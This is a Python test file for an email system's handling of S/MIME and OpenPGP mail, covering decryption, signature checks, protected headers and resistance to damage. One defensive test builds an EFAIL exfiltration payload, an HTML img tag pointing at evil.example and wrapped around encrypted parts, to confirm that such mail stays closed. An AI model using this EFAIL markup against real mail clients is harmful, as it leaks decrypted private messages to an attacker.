"""Rule 1.12.6: signed and encrypted mail is opened and checked with the mailbox's keys, and never merged with others."""

# ruff: noqa: E501 - samples and tables are kept on one line
from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tugi.channels.email.parsing import parse_mail
from tugi.channels.email.protection.inspecting import inspect_key
from tugi.channels.email.protection.keys import Inspected, Opened
from tugi.channels.email.protection.opening import open_mail
from tugi.channels.email.tests.protection import samples as s


def opened(mail: bytes, *keys: Inspected, head: bytes = s.HEAD, after: timedelta = timedelta()) -> Opened:
    return open_mail(head + mail, [each.key for each in keys], datetime.now(UTC) + after)


def states(found: Opened) -> list[tuple[str, str]]:
    return [(each.kind, each.state) for each in found.layers]


def words(found: Opened) -> str:
    assert found.raw is not None
    return parse_mail(found.raw).text.strip()


ZEBRA = "The launch code is zebra."


@pytest.mark.parametrize(
    "options",
    [("-aes256",), ("-aes128", "-stream"), ("-aes192",), ("-des3",), ("-aes-256-gcm",),
     ("-aes256", "-recip", "{desk}", "-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256"),
     ("-aes256", "-keyid")],
)  # fmt: skip
def test_smime_is_opened(options: tuple[str, ...]) -> None:
    mail = s.smime_encrypted(s.INNER, *(each.format(desk=s.folder() / "desk.crt") for each in options))
    found = opened(mail, s.smime_key("desk"))
    assert states(found) == [("encrypted", "opened")]
    assert words(found) == ZEBRA
    assert found.layers[0].who == "Desk <support@acme.example>"
    assert found.layers[0].fingerprint == s.smime_key("desk").fingerprint


@pytest.mark.parametrize("mail", [s.smime_encrypted, s.openpgp_encrypted])
def test_without_the_key_it_stays_closed(mail: Callable[[], bytes]) -> None:
    for keys in ((), (s.smime_key("other"), s.openpgp_key("other"))):
        assert opened(mail(), *keys) == Opened(None, opened(mail()).layers)
    assert states(opened(mail())) == [("encrypted", "no_key")]


def test_openpgp_is_opened_and_its_signature_checked() -> None:
    found = opened(s.openpgp_encrypted(), s.openpgp_key("desk"), s.openpgp_key("ann", is_private=False))
    assert states(found) == [("encrypted", "opened"), ("signed", "good")]
    assert words(found) == ZEBRA
    assert found.layers[1].who == "Ann <ann@example.com>"


def test_a_signature_within_by_a_key_that_nobody_knows_is_told_so() -> None:
    found = opened(s.openpgp_encrypted(), s.openpgp_key("desk"))
    assert states(found) == [("encrypted", "opened"), ("signed", "unknown")]
    assert words(found) == ZEBRA


def test_what_is_encrypted_and_not_signed_is_told_so() -> None:
    assert states(opened(s.openpgp_encrypted(by=None), s.openpgp_key("desk"))) == [("encrypted", "opened")]


@pytest.mark.parametrize(
    ("mail", "key"),
    [
        (s.smime_signed, s.smime_key),
        (s.openpgp_signed, s.openpgp_key),
        (lambda: s.smime_signed(s.INNER, "-keyopt", "rsa_padding_mode:pss"), s.smime_key),
        (lambda: s.smime_signed(s.INNER, "-noattr"), s.smime_key),
        (lambda: s.smime_signed(s.INNER, "-nocerts"), s.smime_key),
    ],
)
def test_a_signature_is_checked(mail: Callable[[], bytes], key: Callable[..., Inspected]) -> None:
    raw, ann = mail(), key("ann", is_private=False)
    assert states(opened(raw, ann)) == [("signed", "good")]
    assert opened(raw, ann).raw is None
    assert states(opened(raw.replace(b"zebra", b"tiger"), ann)) == [("signed", "bad")]
    assert states(opened(raw, ann, head=s.HEAD.replace(b"ann@", b"eve@"))) == [("signed", "other_address")]
    if ann.key.system == "smime":
        assert states(opened(raw, ann, after=timedelta(days=31))) == [("signed", "expired")]


def test_an_openpgp_key_that_has_expired_is_told_so() -> None:
    secret = s.openpgp_secret("ann")
    certificate = secret.extract_certificate()
    ends = datetime.now(UTC) + timedelta(days=20)
    ending = inspect_key(str(certificate.set_expiration(ends, secret.certifier())).encode(), "")
    assert ending.expires_at is not None
    assert states(opened(s.openpgp_signed(), ending)) == [("signed", "good")]
    assert states(opened(s.openpgp_signed(), ending, after=timedelta(days=21))) == [("signed", "expired")]


@pytest.mark.parametrize("mail", [s.smime_signed, s.openpgp_signed])
def test_line_ends_of_the_way_do_not_break_a_signature(mail: Callable[[], bytes]) -> None:
    raw = mail().replace(b"\r\n", b"\n")
    assert states(opened(raw, s.smime_key("ann"), s.openpgp_key("ann"))) == [("signed", "good")]


def test_a_genuine_signature_of_an_unknown_key_is_no_proof() -> None:
    assert states(opened(s.smime_signed())) == [("signed", "unknown")]
    assert states(opened(s.smime_signed(), s.smime_key("other"))) == [("signed", "unknown")]
    assert states(opened(s.openpgp_signed())) == [("signed", "unknown")]


def test_a_signature_by_sha1_vouches_for_nothing() -> None:
    assert states(opened(s.smime_signed(s.INNER, "-md", "sha1"), s.smime_key("ann"))) == [("signed", "unchecked")]


@pytest.mark.parametrize("options", [("-nodetach",), ("-nodetach", "-stream")])
def test_a_text_inside_its_signature_is_taken_out(options: tuple[str, ...]) -> None:
    found = opened(s.smime_signed(s.INNER, *options), s.smime_key("ann"))
    assert states(found) == [("signed", "good")]
    assert words(found) == ZEBRA


def test_signed_within_encrypted_is_both() -> None:
    found = opened(s.smime_encrypted(s.smime_signed()), s.smime_key("desk"), s.smime_key("ann", is_private=False))
    assert states(found) == [("encrypted", "opened"), ("signed", "good")]
    assert words(found) == ZEBRA


def test_a_signed_part_of_parts_is_checked_whole() -> None:
    inner = b"Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n\r\nzebra\r\n--i--\r\n"
    for mail in (s.smime_signed(inner), s.openpgp_signed(inner)):
        assert states(opened(mail, s.smime_key("ann"), s.openpgp_key("ann"))) == [("signed", "good")]


def test_armour_that_is_the_whole_text_is_opened() -> None:
    mail = b"Content-Type: text/plain\r\n\r\n" + s.openpgp_message("Grüße".encode())
    found = opened(mail, s.openpgp_key("desk"), s.openpgp_key("ann"))
    assert states(found) == [("encrypted", "opened"), ("signed", "good")]
    assert words(found) == "Grüße"


def test_a_text_in_the_frame_of_its_signature_is_taken_out() -> None:
    mail = b"Content-Type: text/plain\r\n\r\n" + s.openpgp_clear(b"- zebra\nx\n")
    found = opened(mail, s.openpgp_key("ann"))
    assert states(found) == [("signed", "good")]
    assert words(found) == "- zebra\nx"
    assert states(opened(mail.replace(b"zebra", b"tiger"), s.openpgp_key("ann"))) == [("signed", "bad")]


def glued(before: bytes, sealed: bytes, after: bytes) -> bytes:
    """EFAIL: clear HTML of a stranger around what somebody else encrypted."""
    html = b"Content-Type: text/html\r\n\r\n"
    return (
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + html + before
        + b"\r\n--m\r\n" + sealed + b"\r\n--m\r\n" + html + after + b"\r\n--m--\r\n"
    )  # fmt: skip


@pytest.mark.parametrize(
    "sealed",
    [
        lambda: s.smime_encrypted().partition(b"\n\n")[0].partition(b"MIME-Version: 1.0\n")[2] + b"\n\n" + s.smime_encrypted().partition(b"\n\n")[2],
        s.openpgp_encrypted,
        lambda: b"Content-Type: text/plain\r\n\r\n" + s.openpgp_message(),
    ],
)  # fmt: skip
def test_what_is_glued_to_clear_text_is_never_opened(sealed: Callable[[], bytes]) -> None:
    mail = glued(b"<img src='http://evil.example/", sealed(), b"'>")
    found = opened(mail, s.smime_key("desk"), s.openpgp_key("desk"))
    assert found.raw is None
    assert states(found) == [("encrypted", "closed")]
    assert found.layers[0].is_part


def test_armour_beside_other_words_is_never_opened() -> None:
    mail = b"Content-Type: text/plain\r\n\r\nPlease answer this:\r\n" + s.openpgp_message()
    found = opened(mail, s.openpgp_key("desk"))
    assert (found.raw, states(found)) == (None, [("encrypted", "closed")])


def test_the_subject_stays_the_one_outside() -> None:
    """A ticket's subject goes out again in every answer, and who sent the mail on need not be who wrote it."""
    inner = (
        b'Content-Type: text/plain; protected-headers="v1"\r\nSubject: Real\r\nFrom: eve@example.com\r\n\r\nzebra\r\n'
    )
    found = opened(s.openpgp_encrypted(inner), s.openpgp_key("desk"))
    assert found.raw is not None
    mail = parse_mail(found.raw)
    assert mail.subject == "Secret"
    assert mail.from_ and mail.from_.addr == s.ANN


def test_headers_within_that_are_not_protected_change_nothing() -> None:
    inner = b"Content-Type: text/plain\r\nSubject: Other\r\nMessage-ID: <x@y>\r\n\r\nzebra\r\n"
    found = opened(s.openpgp_encrypted(inner), s.openpgp_key("desk"))
    assert found.raw is not None
    mail = parse_mail(found.raw)
    assert (mail.subject, mail.message_id) == ("Secret", "sealed@example.com")


def test_damage_is_told_and_leaves_the_mail_closed() -> None:
    mail = s.openpgp_encrypted()
    at = len(mail) // 2
    found = opened(mail[:at] + mail[at + 40 :], s.openpgp_key("desk"))
    assert found.raw is None
    assert states(found)[0] in (("encrypted", "failed"), ("encrypted", "no_key"))


def test_layers_without_end_end() -> None:
    mail = s.INNER
    for _ in range(8):
        mail = s.smime_signed(mail, "-nodetach")
    found = opened(mail, s.smime_key("ann"))
    assert len(found.layers) == 5
    assert found.layers[-1].is_part


def _sample(name: str) -> bytes:
    if name == "signed":
        return s.smime_signed()
    return s.smime_encrypted() if name == "encrypted" else s.openpgp_signed()


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(["signed", "encrypted", "pgp"]),
    st.lists(st.tuples(st.integers(0, 3_000), st.binary(min_size=1, max_size=3)), min_size=1, max_size=4),
)
def test_any_damage_is_survived(name: str, changes: list[tuple[int, bytes]]) -> None:
    mail = _sample(name)
    for at, new in changes:
        mail = mail[:at] + new + mail[at + len(new) :]
    opened(mail, s.smime_key("desk"), s.smime_key("ann"), s.openpgp_key("ann"))
